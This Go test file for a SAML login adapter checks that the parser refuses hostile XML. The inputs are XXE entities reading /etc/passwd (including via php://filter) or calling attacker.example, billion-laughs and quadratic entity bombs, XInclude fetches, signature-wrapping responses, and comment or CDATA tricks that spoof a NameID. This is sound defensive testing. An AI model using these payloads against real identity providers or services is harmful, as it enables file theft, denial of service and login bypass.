package saml_test

import (
	"bytes"
	"fmt"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/beevik/etree"

	"github.com/fleetpass/fleetpass/adapters/saml/forge"
	"github.com/fleetpass/fleetpass/core/sso"
)

var answer = []sso.CheckName{sso.CheckAnswer}

// doctypes are document type declarations, by what they do. Each goes in front of the root of any document.
func doctypes(outside string) map[string]string {
	bomb := "<!ENTITY a0 \"lol\">"
	for i := 1; i < 12; i++ {
		bomb += fmt.Sprintf("<!ENTITY a%d %q>", i, strings.Repeat(fmt.Sprintf("&a%d;", i-1), 10))
	}
	return map[string]string{
		"bare":                  `<!DOCTYPE Response>`,
		"lower case":            `<!doctype Response>`,
		"empty subset":          `<!DOCTYPE Response []>`,
		"external DTD":          `<!DOCTYPE Response SYSTEM "` + outside + `/evil.dtd">`,
		"public DTD":            `<!DOCTYPE Response PUBLIC "-//x//y" "` + outside + `/evil.dtd">`,
		"external entity":       `<!DOCTYPE Response [<!ENTITY e SYSTEM "` + outside + `/e">]>`,
		"file entity":           `<!DOCTYPE Response [<!ENTITY e SYSTEM "file:///etc/passwd">]>`,
		"php entity":            `<!DOCTYPE Response [<!ENTITY e SYSTEM "php://filter/convert.base64-encode/resource=/etc/passwd">]>`,
		"gopher entity":         `<!DOCTYPE Response [<!ENTITY e SYSTEM "` + strings.Replace(outside, "http", "gopher", 1) + `/_x">]>`,
		"UNC entity":            `<!DOCTYPE Response [<!ENTITY e SYSTEM "\\attacker.example\share\e">]>`,
		"parameter entity":      `<!DOCTYPE Response [<!ENTITY % e SYSTEM "` + outside + `/e"> %e;]>`,
		"internal entity":       `<!DOCTYPE Response [<!ENTITY e "evil">]>`,
		"billion laughs":        `<!DOCTYPE Response [` + bomb + `]>`,
		"quadratic":             `<!DOCTYPE Response [<!ENTITY e "` + strings.Repeat("a", 50_000) + `">]>`,
		"recursive":             `<!DOCTYPE Response [<!ENTITY e "&f;"><!ENTITY f "&e;">]>`,
		"default namespaces":    `<!DOCTYPE Response [<!ATTLIST Signature xmlns CDATA #FIXED "http://www.w3.org/2000/09/xmldsig#">]>`,
		"default ID":            `<!DOCTYPE Response [<!ATTLIST Assertion ID ID "_x">]>`,
		"notation":              `<!DOCTYPE x [<!NOTATION x SYSTEM 'x">]><!--'>]>`,
		"unstable directive":    `<!DOCTYPE x [<!ENTITY y "<!--">]><!<<!-- -->!-->"--> " >`,
		"nested directive":      `<!x <!y>>`,
		"directive":             `<!ELEMENT Response ANY>`,
		"CDATA section":         `<![CDATA[x]]>`,
		"conditional section":   `<![INCLUDE[ x ]]>`,
		"unfinished":            `<!DOCTYPE Response [`,
		"stylesheet":            `<?xml-stylesheet type="text/xsl" href="` + outside + `/x.xsl"?>`,
		"a second declaration":  `<?xml version="1.0"?><?xml version="1.0"?>`,
		"unfinished comment":    `<!-- x `,
		"unfinished PI":         `<?x `,
		"DOCTYPE after comment": `<!-- x --><!DOCTYPE Response>`,
	}
}

// Document types, directives and instructions.
//
// SAML-029, SAML-071, SAML-073, SAML-081, SAML-083
func TestDocumentType(t *testing.T) {
	outside := listener(t)
	var all []attack
	for name, prolog := range doctypes(outside) {
		for _, way := range []string{"response signed", "assertion signed"} {
			all = append(all,
				attack{name: name + ", " + way, base: ways[way], want: answer, wire: func(m []byte) []byte { return []byte(prolog + string(m)) }},
				attack{name: name + " after a declaration, " + way, base: ways[way], want: answer, wire: func(m []byte) []byte { return []byte(`<?xml version="1.0" encoding="UTF-8"?>` + prolog + string(m)) }},
				attack{name: name + " after the root, " + way, base: ways[way], want: answer, wire: func(m []byte) []byte { return []byte(string(m) + prolog) }},
			)
		}
		for _, place := range []string{`>ada<`, `>ada@acme.example<`} {
			all = append(all, attack{name: name + ", and it is used in " + place, base: assertionSigned, want: answer, wire: func(m []byte) []byte {
				return []byte(prolog + strings.Replace(string(m), place, ">&e;&a11;<", 1))
			}})
		}
		all = append(all, attack{name: name + " within the root", base: assertionSigned, want: answer, wire: replaced("<samlp:Status>", prolog+"<samlp:Status>")})
	}
	for _, entity := range []string{"&e;", "&nbsp;", "&#xd800;", "&#x110000;", "&#99999999999999999999;", "&#;", "&#x;", "&;", "&", "&amp", "&#-1;", "&#x0;"} {
		all = append(all, attack{name: "entity " + entity, base: assertionSigned, want: answer, wire: replaced(">ada<", ">"+entity+"<")})
	}
	run(t, all)

	// What is not a document type but names an address is not followed, either.
	c := connection(t, idp().Metadata())
	for _, attribute := range []string{"xsi:schemaLocation", "xsi:noNamespaceSchemaLocation", "xml:base", "href"} {
		o := valid()
		o.Edit = func(r, a *etree.Element) {
			r.CreateAttr("xmlns:xsi", "http://www.w3.org/2001/XMLSchema-instance")
			r.CreateAttr(attribute, outside+"/x.xsd")
			a.CreateAttr(attribute, outside+"/x.xsd")
		}
		inert(t, c, arrival(forge.Encode(idp().Response(o))))
	}
	o := options()
	o.SignAssertion = true
	o.EditSigned = func(r *etree.Element) {
		e := r.CreateElement("xi:include")
		e.CreateAttr("xmlns:xi", "http://www.w3.org/2001/XInclude")
		e.CreateAttr("href", outside+"/include")
	}
	refuse(t, c, arrival(forge.Encode(idp().Response(o))))
}

// A text is read whole or not at all, whatever stands in the middle of it. The identity provider signs each of them as it is,
// and what falls out of the canonical form is put in afterwards, too.
//
// SAML-075, SAML-077, SAML-079
func TestTexts(t *testing.T) {
	c := connection(t, idp().Metadata())
	middles := map[string]struct {
		middle string
		whole  string // what the text is then, if it is read; "": it must not be read
	}{
		"comment":       {"<!---->", "admin@acme.example.evil.example"},
		"full comment":  {"<!-- x -->", "admin@acme.example.evil.example"},
		"two comments":  {"<!--a--><!--b-->", "admin@acme.example.evil.example"},
		"CDATA":         {"<![CDATA[]]>", "admin@acme.example.evil.example"},
		"CDATA of text": {"<![CDATA[.x]]>", "admin@acme.example.x.evil.example"},
		"instruction":   {"<?x y?>", ""},
		"child":         {"<x>y</x>", ""},
		"empty child":   {"<x/>", ""},
		"known child":   {"<saml:NameID>y</saml:NameID>", ""},
	}
	const front, back = "admin@acme.example", ".evil.example"
	for name, m := range middles {
		for _, place := range []string{"NameID", "AttributeValue", "Issuer", "Audience"} {
			for _, when := range []string{"before", "after"} {
				t.Run(fmt.Sprintf("%s in %s %s the signing", name, place, when), func(t *testing.T) {
					o := options()
					o.SignAssertion = true
					mark := front + "MARK" + back
					if when == "after" {
						mark = front + back
					}
					edit := func(_, a *etree.Element) { setText(at(a, ".//"+place), mark) }
					twin := edit
					if place == "Issuer" || place == "Audience" {
						// The twin is a connection whose provider or whose own entity ID is exactly the whole.
						twin = nil
					}
					if twin != nil {
						v := o
						v.Edit = func(_, a *etree.Element) { setText(at(a, ".//"+place), front+back) }
						accept(t, c, arrival(forge.Encode(idp().Response(v))))
					} else {
						accept(t, c, arrival(forge.Encode(idp().Response(o))))
					}
					o.Edit = edit
					var message []byte
					if when == "before" {
						// The message is written with the middle in place, read again, and signed like that.
						o.SignAssertion = false
						d := forge.Parse(bytes.Replace(idp().Response(o), []byte("MARK"), []byte(m.middle), 1))
						idp().Sign(at(d, "/Response/Assertion"), forge.Signing{})
						message = forge.Bytes(d)
					} else {
						message = bytes.Replace(idp().Response(o), []byte(front+back), []byte(front+m.middle+back), 1)
					}
					got, _, err := finish(t, c, arrival(forge.Encode(message)))
					if err != nil {
						refuse(t, c, arrival(forge.Encode(message)))
						return
					}
					said := got.Subject
					if place == "AttributeValue" {
						said = fmt.Sprint(got.Attributes["email"])
						said = strings.TrimSuffix(strings.TrimPrefix(said, "["), "]")
					}
					if m.whole == "" || said != m.whole {
						t.Errorf("read as %q", said)
					}
				})
			}
		}
	}
}

// What stands before and behind the document, and how it is written.
//
// SAML-085, SAML-087
func TestEncoding(t *testing.T) {
	wrapped := func(before, behind string) func([]byte) []byte {
		return func(m []byte) []byte { return []byte(before + string(m) + behind) }
	}
	const declaration = `<?xml version="1.0" encoding="UTF-8"?>`
	var all []attack
	for name, f := range map[string]func([]byte) []byte{
		"text before":                     wrapped("x", ""),
		"text before the declaration":     wrapped("x"+declaration, ""),
		"space before the declaration":    wrapped(" "+declaration, ""),
		"new line before the declaration": wrapped("\n"+declaration, ""),
		"NUL before":                      wrapped("\x00", ""),
		"two BOMs":                        wrapped("\ufeff\ufeff", ""),
		"BOM behind the declaration":      wrapped(declaration+"\ufeff", ""),
		"UTF-16 BOM":                      wrapped("\xff\xfe", ""),
		"text behind":                     wrapped("", "x"),
		"NUL behind":                      wrapped("", "\x00"),
		"a second root":                   wrapped("", "<x/>"),
		"a second response":               func(m []byte) []byte { return append(bytes.Clone(m), m...) },
		"an evil response in front":       func(m []byte) []byte { return append(forge.Classic["XSW2"].Apply(m), m...) },
		"a root before":                   wrapped("<x/>", ""),
		"a closing tag behind":            wrapped("", "</samlp:Response>"),
		"cut off":                         func(m []byte) []byte { return m[:len(m)-5] },
		"cut in half":                     func(m []byte) []byte { return m[:len(m)/2] },
		"version 1.1":                     wrapped(`<?xml version="1.1" encoding="UTF-8"?>`, ""),
		"version 2.0":                     wrapped(`<?xml version="2.0"?>`, ""),
		"UTF-16 declared":                 wrapped(`<?xml version="1.0" encoding="UTF-16"?>`, ""),
		"Latin-1 declared":                wrapped(`<?xml version="1.0" encoding="ISO-8859-1"?>`, ""),
		"UTF-7 declared":                  wrapped(`<?xml version="1.0" encoding="UTF-7"?>`, ""),
		"US-ASCII declared":               wrapped(`<?xml version="1.0" encoding="US-ASCII"?>`, ""),
		"declared twice":                  wrapped(`<?xml version="1.0" encoding="UTF-8" encoding="UTF-16"?>`, ""),
		"UTF-16": func(m []byte) []byte {
			out := []byte{0xff, 0xfe}
			for _, u := range utf16.Encode([]rune(string(m))) {
				out = append(out, byte(u), byte(u>>8))
			}
			return out
		},
	} {
		all = append(all, attack{name: name, want: answer, wire: f})
	}
	for name, inside := range map[string]string{
		"invalid UTF-8": "\xff", "overlong": "\xc0\xaf", "a lone surrogate": "\xed\xa0\x80", "a cut character": "\xe2\x82", "above Unicode": "\xf4\x90\x80\x80", "U+FFFE": "\ufffe", "U+FFFF": "\uffff",
		"NUL": "\x00", "control": "\x01", "escape": "\x1b[31m", "C1": "\u0080", "DEL": "\x7f", "U+FDD0": "\ufdd0",
		"control by reference": "&#1;", "C1 by reference": "&#x80;", "NUL by reference": "&#0;", "surrogate by reference": "&#xD800;", "U+FFFE by reference": "&#xFFFE;",
		"<": "<", "]]>": "]]>", "a start tag": "<x>", "an end tag": "</x>",
	} {
		for _, way := range []string{"response signed", "assertion signed"} {
			all = append(all, attack{name: name + " in the NameID, " + way, base: ways[way], want: answer, wire: replaced(">ada<", ">a"+inside+"da<")})
			if inside != "]]>" { // which may stand in a value
				all = append(all, attack{name: name + " in an attribute, " + way, base: ways[way], want: answer, wire: replaced(`Name="email"`, `Name="e`+inside+`mail"`)})
			}
		}
	}
	for name, f := range map[string]func([]byte) []byte{
		"no prefix":               replaced("<samlp:Status>", "<:Status>"),
		"no local name":           replaced("<samlp:Status>", "<samlp:>"),
		"two colons":              replaced("<samlp:Status>", "<samlp:a:Status>"),
		"undeclared prefix":       replaced("<samlp:Status>", "<q:Status/><samlp:Status>"),
		"prefix bound to nothing": replaced("<samlp:Status>", `<samlp:Status xmlns:samlp="">`),
		"xml rebound":             replaced("<samlp:Status>", `<samlp:Status xmlns:xml="urn:x">`),
		"xmlns bound":             replaced("<samlp:Status>", `<samlp:Status xmlns:xmlns="urn:x">`),
		"xmlns's namespace bound": replaced("<samlp:Status>", `<samlp:Status xmlns:p="http://www.w3.org/2000/xmlns/">`),
		"namespace with U+0080":   replaced("<samlp:Status>", "<samlp:Status xmlns:p=\"urn:\u0080\">"),
		"no quotes":               replaced(`Version="2.0"`, `Version=2.0`),
		"no value":                replaced(`Version="2.0"`, `Version`),
		"no space":                replaced(`Version="2.0" `, `Version="2.0"`),
		"< in a value":            replaced(`Version="2.0"`, `Version="2.0" x="<"`),
		"case of the end tag":     replaced("</samlp:Status>", "</samlp:status>"),
		"prefix of the end tag":   replaced("</samlp:Status>", "</saml:Status>"),
		"end tag with attributes": replaced("</samlp:Status>", `</samlp:Status x="y">`),
		"space before the name":   replaced("<samlp:Status>", "< samlp:Status>"),
		"elements overlap":        replaced("</samlp:Status>", "<a><b></a></b></samlp:Status>"),
		"-- in a comment":         replaced("<samlp:Status>", "<!-- a -- b --><samlp:Status>"),
		"control in a name":       replaced("<samlp:Status>", "<samlp:St\x01atus>"),
		"Status in no namespace":  replaced("<samlp:Status>", "<Status>"),
		"root in no namespace":    func(m []byte) []byte { return []byte(strings.ReplaceAll(string(m), "samlp:Response", "Response")) },
		"root in SAML 1.1's": func(m []byte) []byte {
			return []byte(strings.ReplaceAll(string(m), forge.NSProtocol, "urn:oasis:names:tc:SAML:1.0:protocol"))
		},
		"assertion in SAML 1.1's": func(m []byte) []byte {
			return []byte(strings.ReplaceAll(string(m), forge.NSAssertion, "urn:oasis:names:tc:SAML:1.0:assertion"))
		},
		"root of another name": func(m []byte) []byte {
			return []byte(strings.ReplaceAll(string(m), "samlp:Response", "samlp:ArtifactResponse"))
		},
		"root is a LogoutResponse": func(m []byte) []byte {
			return []byte(strings.ReplaceAll(string(m), "samlp:Response", "samlp:LogoutResponse"))
		},
		"the assertion alone": func(m []byte) []byte {
			return forge.Bytes(etree.NewDocumentWithRoot(at(forge.Parse(m), "/Response/Assertion").Copy()))
		},
		"JSON":           func([]byte) []byte { return []byte(`{"email":"evil@acme.example"}`) },
		"HTML":           func([]byte) []byte { return []byte(`<!DOCTYPE html><html><body>hello</body></html>`) },
		"nothing":        func([]byte) []byte { return nil },
		"spaces":         func([]byte) []byte { return []byte("   ") },
		"a DER sequence": func([]byte) []byte { return idp().Certificate.Raw },
	} {
		all = append(all, attack{name: name, base: assertionSigned, wire: f})
	}
	run(t, all)

	// What is odd, and good XML.
	c := connection(t, idp().Metadata())
	for name, f := range map[string]func([]byte) []byte{
		"declaration": wrapped(declaration, "\n"), "declaration of Java": wrapped(`<?xml version="1.0" encoding="UTF-8" standalone="no"?>`, ""), "declaration and line": wrapped(declaration+"\r\n", "\r\n"),
		"references": replaced(">ada<", ">&#97;&#x64;a<"), "single quotes": replaced(`Version="2.0"`, `Version='2.0'`), "spaces in a tag": replaced("</samlp:Status>", "</samlp:Status >"),
	} {
		t.Run(name, func(t *testing.T) { accept(t, c, arrival(forge.Encode(f(idp().Response(valid()))))) })
	}
	inert(t, c, arrival(forge.Encode(wrapped("\ufeff", "")(idp().Response(valid())))))
}
